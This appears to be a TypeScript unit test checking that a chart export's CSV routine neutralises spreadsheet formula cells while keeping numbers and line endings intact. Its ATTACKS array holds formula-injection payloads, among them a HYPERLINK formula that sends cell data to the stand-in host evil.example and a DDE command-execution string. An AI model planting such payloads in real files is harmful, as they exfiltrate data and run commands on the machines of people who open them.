import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { neutralise, neutraliseCsv } from '$lib/charts/export/csv';

const ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1)', "+cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3', '=1+1', '\t=1'];

/** Every field of a CSV, as a spreadsheet reads it. */
const cells = (text: string) => Papa.parse<string[]>(text, { skipEmptyLines: true }).data;

describe('a dataset CSV as downloaded by a person', () => {
  it('has every formula cell neutralised by the chart exports’ rule, quoted or not, at any column and line end', () => {
    const lines = [
      'indicator_id,period,value,note,source',
      `tournees_soutenues,2019-2020,-12,"${ATTACKS[0]!.replaceAll('"', '""')}",${ATTACKS[1]}`,
      `tournees_soutenues,2020-2021,+3.5,${ATTACKS[2]},"${ATTACKS[3]}"`,
      `=1+1,2021-2022,-1e-3,"deux\nlignes, =pas au début",\t=1`,
      'x,2022-2023,0.5,,'
    ];
    for (const eol of ['\n', '\r\n']) {
      const text = lines.join(eol) + eol;
      const out = neutraliseCsv(text);
      const before = cells(text);
      const after = cells(out);
      expect(after.map((r) => r.length)).toEqual(before.map((r) => r.length));
      const flat = after.flat();
      for (const attack of ATTACKS) expect(flat).toContain(`'${attack}`);
      // Nothing left that a spreadsheet would evaluate, and every cell is either as it was or neutralised.
      for (const [r, row] of after.entries())
        for (const [c, cell] of row.entries()) {
          const was = before[r]![c]!;
          expect(cell === was || cell === neutralise(was)).toBe(true);
          if (/^[=+\-@\t\r]/.test(cell)) expect(cell).toMatch(/^[+-][\d.]/);
        }
      // Numbers stay numbers, and the line ends are the file's own.
      expect(after[1]![2]).toBe('-12');
      expect(after[2]![2]).toBe('+3.5');
      expect(after[3]![2]).toBe('-1e-3');
      expect(out.split(eol)).toHaveLength(text.split(eol).length);
    }
  });

  it('keeps a file without formulas byte for byte', () => {
    const text = 'indicator_id,period,value\r\ntournees_soutenues,2019-2020,-4\r\n"a, b","c ""d""",5\r\n';
    expect(neutraliseCsv(text)).toBe(text);
  });

  it('reads a `;` file with its own delimiter', () => {
    expect(neutraliseCsv('a;b\n=1;-2\n', ';')).toBe("a;b\n'=1;-2\n");
  });
});
